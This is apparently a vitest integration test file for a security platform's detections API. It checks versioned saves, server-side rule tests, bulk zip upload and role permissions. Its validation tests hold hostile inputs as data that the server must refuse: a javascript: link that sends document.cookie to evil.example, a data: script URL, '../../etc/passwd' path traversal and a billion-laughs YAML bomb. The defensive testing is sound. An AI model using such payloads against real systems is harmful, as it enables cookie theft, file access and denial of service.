// The detections API through the local runtime: create, update with versions, enable and disable, delete,
// unit tests run on the server through the engine with the specification's texts, the save checks (the
// engine's reading of the Python, ids, links, log types), bulk upload (and its validation) of a zip made from
// the fixture repository, bad archives, and per-type permissions.
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative, sep } from 'node:path';
import { zipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { billionLaughs } from '../../core/billion-laughs';
import { graphql, signIn, startTestRuntime, type TestRuntime } from '../../local/harness';

const FIXTURE = join(import.meta.dirname, '..', '..', 'engine', 'fixtures', 'analysis');
let runtime: TestRuntime;
let admin: string;
let analyst: string;

/** The fixture's log types (no schema has their names) mapped to managed ones, as a deployment's content names them. */
const deploymentLogTypes = (text: string) =>
  text.replace(/\bFixture\.Auth\b(?!\.)/g, 'Okta.SystemLog').replace(/\bFixture\.Admin\b(?!\.)/g, 'GitHub.Audit');

function zipBase64(folder: string): string {
  const files: Record<string, Uint8Array> = {};
  const walk = (dir: string) => {
    for (const name of readdirSync(dir)) {
      const path = join(dir, name);
      if (statSync(path).isDirectory()) walk(path);
      else
        files[relative(folder, path).split(sep).join('/')] = new TextEncoder().encode(
          deploymentLogTypes(readFileSync(path, 'utf8')),
        );
    }
  };
  walk(folder);
  return Buffer.from(zipSync(files)).toString('base64');
}

async function call<T = Record<string, unknown>>(token: string, query: string, variables: Record<string, unknown> = {}) {
  const { body } = await graphql(runtime, { query, variables }, token);
  if (body.errors?.length) throw new Error(body.errors.map((e) => `${String(e.errorType)}: ${String(e.message)}`).join('; '));
  return body.data as T;
}

const DETECTION =
  'id analysisType displayName enabled severity logTypes versionId isSimpleDetection threshold dedupPeriodMinutes createAlert tests { name expectedResult } yaml body';
const CREATE = `mutation($input: SaveDetectionInput!) { createDetection(input: $input) { ${DETECTION} } }`;
const UPDATE = `mutation($input: SaveDetectionInput!) { updateDetection(input: $input) { ${DETECTION} } }`;
const TESTS = `mutation($input: RunDetectionTestsInput!) { runDetectionTests(input: $input) { message results { name passed error } } }`;
const LIST = `query($input: DetectionsInput!) { detections(input: $input) { edges { cursor node { id analysisType enabled } } pageInfo { endCursor hasNextPage } } }`;
const BULK = `{ totals { total new modified unchanged failed } items { id analysisType path status change reasons } fileIssues { path message } }`;

const RULE_YAML = `AnalysisType: rule
Filename: api_rule.py
RuleID: Api.Rule
DisplayName: API rule
Enabled: true
LogTypes: [AWS.CloudTrail]
Severity: Medium
Tests:
  - Name: matches
    ExpectedResult: true
    Log: { eventName: ConsoleLogin }
  - Name: ignores
    ExpectedResult: false
    Log: { eventName: Other }
`;
const RULE_BODY = 'def rule(event):\n    return event.get("eventName") == "ConsoleLogin"\n';

beforeAll(async () => {
  runtime = await startTestRuntime();
  const [first] = runtime.createdUsers;
  admin = (await signIn(runtime, first.username, first.temporaryPassword, 'Admin-Caracal-2026!')).idToken;
  const role = await call<{ createRole: { id: string } }>(
    admin,
    'mutation($input: CreateRoleInput!) { createRole(input: $input) { id } }',
    { input: { name: 'Rule writers', permissions: ['RuleModify'] } },
  );
  const email = 'writer@caracal.local';
  await call(admin, 'mutation($input: InviteUserInput!) { inviteUser(input: $input) { id } }', {
    input: { email, givenName: 'Rita', familyName: 'Writer', role: { kind: 'Id', value: role.createRole.id } },
  });
  const mail = runtime.mailbox.filter((m) => m.to === email).at(-1);
  analyst = (await signIn(runtime, email, mail!.code!, 'Writer-Caracal-2026!')).idToken;
}, 180_000);

afterAll(async () => {
  await runtime?.stop();
});

describe('one detection', () => {
  it('is created, updated as a new version, switched off and on, tested and deleted', async () => {
    const created = (
      await call<{ createDetection: Record<string, unknown> }>(admin, CREATE, { input: { yaml: RULE_YAML, body: RULE_BODY } })
    ).createDetection;
    expect(created).toMatchObject({
      id: 'Api.Rule',
      analysisType: 'RULE',
      versionId: 1,
      enabled: true,
      severity: 'MEDIUM',
      threshold: 1,
      dedupPeriodMinutes: 60,
      createAlert: true,
    });
    await expect(call(admin, CREATE, { input: { yaml: RULE_YAML, body: RULE_BODY } })).rejects.toThrow(/AlreadyExists/);

    const run = await call<{ runDetectionTests: { message: string; results: { name: string; passed: boolean }[] } }>(
      admin,
      TESTS,
      {
        input: { id: 'Api.Rule' },
      },
    );
    expect(run.runDetectionTests.message).toBe('All tests passed!');

    const failing = await call<{
      runDetectionTests: { message: string; results: { name: string; passed: boolean; error: string | null }[] };
    }>(admin, TESTS, {
      input: {
        id: 'Api.Rule',
        testsYaml:
          '- Name: ok\n  ExpectedResult: true\n  Log: {eventName: ConsoleLogin}\n- Name: wrong\n  ExpectedResult: true\n  Log: {eventName: Nope}\n',
      },
    });
    expect(failing.runDetectionTests.message).toBe('1 of 2 tests failed');
    expect(failing.runDetectionTests.results.map((r) => [r.name, r.passed])).toEqual([
      ['wrong', false],
      ['ok', true],
    ]);
    const single = await call<{ runDetectionTests: { message: string } }>(admin, TESTS, {
      input: { id: 'Api.Rule', testsYaml: '- Name: ok\n  ExpectedResult: false\n  Log: {eventName: ConsoleLogin}\n' },
    });
    expect(single.runDetectionTests.message).toBe('Test Failed');
    await expect(
      call(admin, TESTS, {
        input: {
          id: 'Api.Rule',
          testsYaml: '- Name: a\n  ExpectedResult: true\n  Log: {}\n- Name: a\n  ExpectedResult: true\n  Log: {}\n',
        },
      }),
    ).rejects.toThrow(/No duplicate test names/);
    await expect(call(admin, TESTS, { input: { id: 'Api.Rule', testsYaml: 'a: [' } })).rejects.toThrow(/Invalid test/);

    const updated = (
      await call<{ updateDetection: Record<string, unknown> }>(admin, UPDATE, {
        input: { yaml: RULE_YAML.replace('Severity: Medium', 'Severity: High'), body: RULE_BODY, versionId: 1 },
      })
    ).updateDetection;
    expect(updated).toMatchObject({ versionId: 2, severity: 'HIGH' });
    await expect(call(admin, UPDATE, { input: { yaml: RULE_YAML, body: RULE_BODY, versionId: 1 } })).rejects.toThrow(
      /RevisionConflict/,
    );
    const v1 = await call<{ detectionVersion: { severity: string } }>(
      admin,
      'query { detectionVersion(id: "Api.Rule", version: 1) { severity } }',
    );
    expect(v1.detectionVersion.severity).toBe('MEDIUM');

    const off = await call<{ setDetectionEnabled: { enabled: boolean; versionId: number } }>(
      admin,
      'mutation { setDetectionEnabled(input: { id: "Api.Rule", enabled: false }) { enabled versionId } }',
    );
    expect(off.setDetectionEnabled).toEqual({ enabled: false, versionId: 3 });
    const disabled = await call<{ detections: { edges: { node: { id: string } }[] } }>(admin, LIST, {
      input: { enabled: false },
    });
    expect(disabled.detections.edges.map((e) => e.node.id)).toContain('Api.Rule');

    expect(await call(admin, 'mutation { deleteDetection(id: "Api.Rule") { id } }')).toEqual({
      deleteDetection: { id: 'Api.Rule' },
    });
    expect(await call(admin, 'query { detection(id: "Api.Rule") { id } }')).toEqual({ detection: null });
    await expect(call(admin, 'mutation { deleteDetection(id: "Api.Rule") { id } }')).rejects.toThrow(/NotFound/);
  });

  it('refuses invalid documents with the validation messages', async () => {
    await expect(call(admin, CREATE, { input: { yaml: 'AnalysisType: rule\nRuleID: X\n' } })).rejects.toThrow(/InvalidInput/);
    await expect(call(admin, CREATE, { input: { yaml: RULE_YAML } })).rejects.toThrow(/missing Python file/);
    await expect(call(admin, CREATE, { input: { yaml: 'a: [' } })).rejects.toThrow(/invalid YAML/);
    await expect(call(admin, LIST, { input: { pageSize: 5000 } })).rejects.toThrow(
      /pageSize must be a whole number from 1 to 999/,
    );
    await expect(call(admin, LIST, { input: { cursor: '../../etc' } })).rejects.toThrow(/cursor is not a cursor of this list/);
  });
});

describe('save checks', () => {
  const refusal = async (input: Record<string, unknown>, mutation = CREATE) => {
    const { body } = await graphql(runtime, { query: mutation, variables: { input } }, admin);
    return body.errors?.map((e) => ({ type: e.errorType, message: e.message }));
  };
  const rule = (change: (yaml: string) => string) => change(RULE_YAML.replace('Api.Rule', 'Api.Checked'));

  it.each([
    [
      'a Python syntax error, with its line',
      { yaml: rule((y) => y), body: 'def rule(event)\n    return True\n' },
      /^body: line 1: SyntaxError: /,
    ],
    [
      'a rule without rule()',
      { yaml: rule((y) => y), body: 'def matches(event):\n    return True\n' },
      /^body: the detection needs a top-level function `def rule\(event\):`$/,
    ],
    [
      'a policy without policy()',
      {
        yaml: 'AnalysisType: policy\nPolicyID: Api.Policy\nEnabled: true\nSeverity: Low\nResourceTypes: [AWS.S3.Bucket]\nFilename: p.py\n',
        body: 'def rule(resource):\n    return True\n',
      },
      /^body: the detection needs a top-level function `def policy\(resource\):`$/,
    ],
    [
      'an unknown log type',
      { yaml: rule((y) => y.replace('[AWS.CloudTrail]', '[AWS.CloudTrail, Nope.Nothing]')), body: RULE_BODY },
      /^LogTypes: Unknown log type: Nope.Nothing$/,
    ],
    [
      'a RuleID that is a path',
      { yaml: rule((y) => y.replace('RuleID: Api.Checked', 'RuleID: ../../etc/passwd')), body: RULE_BODY },
      /^RuleID: Must start with a letter or digit and hold only letters, digits, dots, underscores and hyphens$/,
    ],
    [
      'a javascript: Reference',
      { yaml: rule((y) => `${y}Reference: javascript:fetch('//evil.example/'+document.cookie)\n`), body: RULE_BODY },
      /^Reference: Must be an http or https link, not javascript:$/,
    ],
    [
      'a data: Runbook',
      { yaml: rule((y) => `${y}Runbook: " data:text/html,<script>alert(1)</script>"\n`), body: RULE_BODY },
      /^Runbook: Must be an http or https link, not data:$/,
    ],
  ])('refuse %s, saving nothing', async (_case, input, message) => {
    expect(await refusal(input)).toEqual([{ type: 'InvalidInput', message: expect.stringMatching(message) }]);
    for (const id of ['Api.Checked', 'Api.Policy', '../../etc/passwd'])
      expect(await call(admin, 'query($id: ID!) { detection(id: $id) { id } }', { id })).toEqual({ detection: null });
  });

  it('name every problem of a detection at once', async () => {
    const yaml = rule((y) => `${y.replace('[AWS.CloudTrail]', '[Nope.Nothing]')}Reference: vbscript:x\n`);
    const refused = await refusal({ yaml, body: 'def rule(event:\n' });
    expect(refused?.[0].message).toMatch(
      /^Reference: Must be an http or https link, not vbscript:; LogTypes: Unknown log type: Nope.Nothing; body: line 1: SyntaxError/,
    );
  });

  it('refuse an update that breaks the Python, keeping the saved version', async () => {
    const created = await call<{ createDetection: { versionId: number } }>(admin, CREATE, {
      input: { yaml: rule((y) => y), body: RULE_BODY },
    });
    expect(created.createDetection.versionId).toBe(1);
    expect(await refusal({ yaml: rule((y) => y), body: 'def rule(event):\nreturn True\n', versionId: 1 }, UPDATE)).toEqual([
      { type: 'InvalidInput', message: expect.stringMatching(/^body: line 2: IndentationError: /) },
    ]);
    const kept = await call<{ detection: { versionId: number; body: string } }>(
      admin,
      'query { detection(id: "Api.Checked") { versionId body } }',
    );
    expect(kept.detection).toEqual({ versionId: 1, body: RULE_BODY });
    await call(admin, 'mutation { deleteDetection(id: "Api.Checked") { id } }');
  });

  it('refuse unit tests written as a billion-laughs document, before anything is expanded', async () => {
    await call(admin, CREATE, { input: { yaml: rule((y) => y), body: RULE_BODY } });
    const testsYaml = `${billionLaughs()}\n`;
    await expect(call(admin, TESTS, { input: { id: 'Api.Checked', testsYaml } })).rejects.toThrow(
      'InvalidInput: Invalid test: YAML aliases are not allowed (line 2, column 8)',
    );
    await call(admin, 'mutation { deleteDetection(id: "Api.Checked") { id } }');
  });
});

describe('bulk upload', () => {
  it('validates, then uploads the fixture repository with a report per item', async () => {
    const data = zipBase64(FIXTURE);
    const validation = await call<{ validateBulkUpload: { totals: Record<string, number> } }>(
      admin,
      `mutation($input: BulkUploadInput!) { validateBulkUpload(input: $input) ${BULK} }`,
      { input: { data } },
    );
    expect(validation.validateBulkUpload.totals).toMatchObject({ failed: 0, new: 19 });
    expect(await call(admin, 'query { detection(id: "Fixture.Auth.FailedLogin") { id } }')).toEqual({ detection: null });

    const upload = await call<{
      bulkUpload: {
        totals: Record<string, number>;
        items: { analysisType: string; status: string }[];
        fileIssues: { message: string }[];
      };
    }>(admin, `mutation($input: BulkUploadInput!) { bulkUpload(input: $input) ${BULK} }`, { input: { data } });
    expect(upload.bulkUpload.totals).toMatchObject({ total: 19, new: 19, failed: 0 });
    expect(new Set(upload.bulkUpload.items.map((i) => i.analysisType))).toEqual(
      new Set([
        'RULE',
        'SCHEDULED_RULE',
        'POLICY',
        'CORRELATION_RULE',
        'GLOBAL',
        'DATA_MODEL',
        'SAVED_QUERY',
        'SCHEDULED_QUERY',
        'PACK',
      ]),
    );
    expect(upload.bulkUpload.items.every((i) => i.status === 'COMPLETED')).toBe(true);

    const rules = await call<{ detections: { edges: { node: { id: string; analysisType: string } }[] } }>(admin, LIST, {
      input: { types: ['RULE'], pageSize: 100 },
    });
    expect(rules.detections.edges.length).toBeGreaterThanOrEqual(5);
    const derived = await call<{ runDetectionTests: { message: string } }>(admin, TESTS, {
      input: { id: 'Fixture.Derived.FailedLogin' },
    });
    expect(derived.runDetectionTests.message).toMatch(/passed/);
    const correlation = await call<{ detections: { edges: { node: { id: string } }[] } }>(admin, LIST, {
      input: { types: ['CORRELATION_RULE'] },
    });
    const [first] = correlation.detections.edges;
    expect(
      (await call<{ runDetectionTests: { message: string } }>(admin, TESTS, { input: { id: first.node.id } })).runDetectionTests
        .message,
    ).toMatch(/passed/);
  });

  it('refuses bad archives with clear errors', async () => {
    const upload = (data: string) =>
      call(admin, `mutation($input: BulkUploadInput!) { bulkUpload(input: $input) ${BULK} }`, { input: { data } });
    await expect(upload('not base64 at all!')).rejects.toThrow(/data is not valid base64/);
    await expect(upload(Buffer.from('plain text').toString('base64'))).rejects.toThrow(/not a valid zip archive/);
    // AppSync (and the local stand-in) stop such a request before the resolver's own limit does.
    await expect(upload('A'.repeat(8 * 1024 * 1024))).rejects.toThrow(/larger than 5 MB|PayloadTooLarge/);
  });
});

describe('permissions', () => {
  it('lets a rule writer see and change rules but not policies, and refuses bulk upload without its permission', async () => {
    const list = await call<{ detections: { edges: { node: { analysisType: string } }[] } }>(analyst, LIST, {
      input: { pageSize: 100 },
    });
    const types = new Set(list.detections.edges.map((e) => e.node.analysisType));
    expect(types.has('RULE')).toBe(true);
    expect(types.has('POLICY')).toBe(false);
    const policy = await call<{ detections: { edges: { node: { id: string } }[] } }>(admin, LIST, {
      input: { types: ['POLICY'] },
    });
    const policyId = policy.detections.edges[0].node.id;
    expect(await call(analyst, 'query($id: ID!) { detection(id: $id) { id } }', { id: policyId })).toEqual({ detection: null });
    await expect(
      call(analyst, CREATE, {
        input: {
          yaml: 'AnalysisType: policy\nPolicyID: Mine\nEnabled: true\nSeverity: Low\nResourceTypes: [AWS.S3.Bucket]\nFilename: p.py\n',
          body: 'def policy(r):\n    return True\n',
        },
      }),
    ).rejects.toThrow(/Unauthorized: You do not have permission to modify policies/);
    await expect(
      call(analyst, `mutation($input: BulkUploadInput!) { bulkUpload(input: $input) ${BULK} }`, {
        input: { data: 'UEsFBgAAAAAAAAAAAAAAAAAAAAAAAA==' },
      }),
    ).rejects.toThrow();
    await expect(call(analyst, 'query { alerts(input: {}) { edges { cursor } } }')).rejects.toThrow();
  });

  it("refuses running a rule's tests to someone who may only read rules, whatever else they may modify", async () => {
    const role = await call<{ createRole: { id: string } }>(
      admin,
      'mutation($input: CreateRoleInput!) { createRole(input: $input) { id } }',
      { input: { name: 'Policy writers', permissions: ['RuleRead', 'PolicyModify'] } },
    );
    const email = 'policies@caracal.local';
    await call(admin, 'mutation($input: InviteUserInput!) { inviteUser(input: $input) { id } }', {
      input: { email, givenName: 'Paul', familyName: 'Policy', role: { kind: 'Id', value: role.createRole.id } },
    });
    const mail = runtime.mailbox.filter((m) => m.to === email).at(-1);
    const reader = (await signIn(runtime, email, mail!.code!, 'Policy-Caracal-2026!')).idToken;
    await call(admin, CREATE, { input: { yaml: RULE_YAML.replace('Api.Rule', 'Api.Tested'), body: RULE_BODY } });
    expect(await call(reader, 'query($id: ID!) { detection(id: $id) { id } }', { id: 'Api.Tested' })).toEqual({
      detection: { id: 'Api.Tested' },
    });
    await expect(call(reader, TESTS, { input: { id: 'Api.Tested' } })).rejects.toThrow(
      /Unauthorized: You do not have permission to modify rules/,
    );
  });
});
